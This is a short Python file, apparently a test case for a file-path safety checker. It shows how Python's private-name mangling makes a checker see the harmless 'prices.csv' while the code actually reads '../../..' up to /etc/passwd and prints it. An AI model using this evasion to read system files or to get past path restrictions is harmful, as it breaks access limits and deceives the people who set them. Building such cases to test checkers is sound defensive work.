# source: Python name mangling ("Private Variables", Python tutorial 9.6); path-traversal via
#         formatted paths (f-string placeholder holding '..'), OWASP path traversal
# family: value read into a name the check believes holds only literals: the check resolves
#         `__name` by its spelling, Python reads it inside class C as the global `_C__name`
# goal: f-string path placeholder holds '../../..' -> reads /etc/passwd (file outside /data)
import pandas as pd

__name = "prices.csv"
_C__name = "/".join([".."] * 8) + "/etc/passwd"


class C:
    @staticmethod
    def load():
        return pd.read_csv(f"{__name}", sep="\x01", header=None)


print(C.load().to_string())
